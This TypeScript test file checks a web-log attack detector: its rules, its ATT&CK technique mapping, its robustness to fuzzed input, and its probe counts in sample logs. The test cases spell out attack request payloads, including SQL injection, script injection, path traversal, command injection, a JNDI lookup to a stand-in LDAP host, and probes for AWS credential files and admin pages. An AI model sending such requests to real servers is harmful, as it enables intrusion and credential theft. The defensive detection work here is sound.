import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import fc from 'fast-check';
import { investigate } from '../../lib/findings/investigate.js';
import { matchRequest } from '../../lib/findings/match-request.js';
import { requestRules } from '../../lib/findings/request-rules.js';
import { attackVersion, techniques } from '../../lib/findings/techniques.js';
import { openTraffic } from '../../lib/load/open-traffic.js';
import { requireLocal } from '../../lib/load/traffic.js';
import { realData } from '../real-data.js';
import { trafficOf } from './records.js';

const named = (uri: string | null, user_agent: string | null = null) =>
  matchRequest({ uri, user_agent, method: 'POST' }).map(({ name }) => name);

/** For each rule a request that hits it, and an honest one that is much like it and does not. */
const cases: Readonly<Record<string, readonly [uri: string | null, agent: string | null, honest: string]>> = {
  'SQL injection: union': [
    '/item?id=1%20UNION%2F**%2FSELECT%20name',
    null,
    '/search?q=student+union+selection',
  ],
  'SQL injection: always true': ["/item?id=1%27+or+'1'%3D'1", null, '/search?q=rock+or+roll'],
  'SQL injection: function': ['/item?id=1%20and%20sleep(5)', null, '/search?q=how+to+sleep+well'],
  'script injection': ['/?q=%253Cscript%253Ealert(1)', null, '/docs/javascript/script'],
  'path traversal': ['/static/%2e%2e%2f%2e%2e%2fsecret', null, '/a/../index.html'],
  'command injection': ['/ping?host=1.1.1.1;cat%20/x', null, '/pets?type=cat&id=4'],
  'JNDI lookup': ['/?x=$%7Bjndi:ldap://x.example/a%7D', null, '/docs/jndi'],
  'JNDI lookup in the user agent': [null, ['$', '{jndi:ldap://x.example/a}'].join(''), '/'],
  'PHP code': ['/index.php?page=php://input', null, '/blog/php-input'],
  secrets: ['//.aws/credentials', null, '/environment/git'],
  'PHP information': ['//old_phpinfo.php', null, '/php/information'],
  'admin pages': ['/phpMyAdmin/index.php', null, '/administration/staff'],
  scanner: ['/', 'sqlmap/1.7#stable', '/blog/nmap'],
  'log-in': ['/account/login.php?next=/', null, '/loginfo/authors'],
};

test('every rule has a case here', () => {
  assert.deepEqual(requestRules.map(({ name }) => name).sort(), Object.keys(cases).sort());
});

for (const [name, [uri, agent, honest]] of Object.entries(cases))
  test(`the rule “${name}” hits ${uri ?? agent} and not ${honest}`, () => {
    assert.ok(named(uri, agent).includes(name));
    assert.deepEqual(named(honest, 'Mozilla/5.0 (X11; Linux x86_64)'), []);
  });

test('only a log-in that is posted counts as one', () => {
  const methods = ['GET', 'post', null].map((method) =>
    matchRequest({ uri: '/login', user_agent: null, method }),
  );
  assert.deepEqual(
    methods.map((rules) => rules.map(({ name }) => name)),
    [[], ['log-in'], []],
  );
});

test('the technique is what the requests show, not always an exploit', async () => {
  const traffic = await trafficOf([{ at: 0, source: '198.51.100.1' }]);
  const send = (source: string, n: number, pause: number, uri: string, agent: string, method = 'GET') =>
    requireLocal(traffic).engine.connection.run(
      `insert into traffic select 1 + i, 600, 500, timestamp '2024-04-01' + to_seconds($pause * i), null, $source, 'DE', 'HTTPS', 404, 443, '10.0.0.1',
         replace($uri, '#', cast(i as varchar)), $agent, $method from range($n) as r(i)`,
      { source, n, pause, uri, agent, method },
    );
  await send('203.0.113.1', 3, 5, "/item?id=#'+or+'1'='1", 'sqlmap/1.7');
  await send('203.0.113.2', 3, 5, '/page#', 'Nikto/2.5');
  await send('203.0.113.3', 8, 5, '/backup#/.git/config', '');
  await send('203.0.113.4', 1, 5, '/phpmyadmin/', '');
  await send('203.0.113.5', 30, 2, '/wp-login.php', 'Mozilla/5.0', 'POST');
  await send('203.0.113.7', 2, 5, '/phpmyadmin/setup', '');
  // An office: as many log-ins, over a day.
  await send('203.0.113.6', 30, 3000, '/login', 'Mozilla/5.0', 'POST');
  const { findings } = await investigate(traffic);
  assert.deepEqual(
    findings
      .filter(({ accuses }) => accuses)
      .map(({ clients, kind, technique }) => [clients.join(' '), kind, technique?.id])
      .sort(),
    [
      ['203.0.113.1', 'request signature', 'T1190'],
      ['203.0.113.2', 'known probe', 'T1595.002'],
      ['203.0.113.3', 'known probe', 'T1595.003'],
      // Alike, so one finding.
      ['203.0.113.4 203.0.113.7', 'known probe', 'T1595.002'],
      ['203.0.113.5', 'brute force', 'T1110'],
    ],
  );
});

test('every technique that may be named is as ATT&CK has it', realData, () => {
  const list = JSON.parse(readFileSync(realData.file('attack/techniques.json'), 'utf8')) as {
    attack_version: string;
    techniques: readonly Record<string, unknown>[];
  };
  assert.equal(attackVersion, String(list.attack_version).replace(/^v/, ''));
  for (const { id, name, tactics, url, stixId } of techniques.values()) {
    const theirs = list.techniques.find((technique) => technique.id === id);
    assert.deepEqual(
      [theirs?.name, theirs?.tactics, theirs?.url, theirs?.stix_id],
      [name, tactics, url, stixId],
    );
  }
});

test('no request, however made, stops or slows the matching', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('%', '<img ', "' or ", '../').map((part) => part.repeat(4000)),
  );
  fc.assert(
    fc.property(hostile, (uri) => {
      assert.ok(Array.isArray(matchRequest({ uri, user_agent: uri })));
    }),
    { numRuns: 300 },
  );
});

test('the samples of AWS and web servers hold as many probes as were counted by hand', realData, async () => {
  const counts: Record<string, readonly [string, number][]> = {};
  for (const name of ['aws_waf__raw.log', 'amazon_elb__raw.log', 'nginx__raw.log', 'apache__raw.log']) {
    const traffic = await openTraffic(realData.file(`aws-samples/${name}`));
    const rows = await traffic.engine.query<{ uri: string | null; user_agent: string | null }>(
      'select uri, user_agent from traffic',
    );
    const found = new Map<string, number>();
    for (const row of rows)
      for (const { name: rule } of matchRequest(row)) found.set(rule, (found.get(rule) ?? 0) + 1);
    counts[name] = [...found].sort();
    if (name === 'amazon_elb__raw.log')
      assert.ok(
        (await investigate(traffic)).findings.some(
          ({ kind, clients }) => kind === 'known probe' && clients.includes('20.78.123.34'),
        ),
      );
  }
  assert.deepEqual(counts, {
    'aws_waf__raw.log': [],
    // Of one scanner's 61 requests; the others ask for names such as /test1.php, which no rule can tell from a site's own.
    'amazon_elb__raw.log': [
      ['PHP information', 17],
      ['secrets', 2],
    ],
    'nginx__raw.log': [],
    'apache__raw.log': [['admin pages', 12]],
  });
});
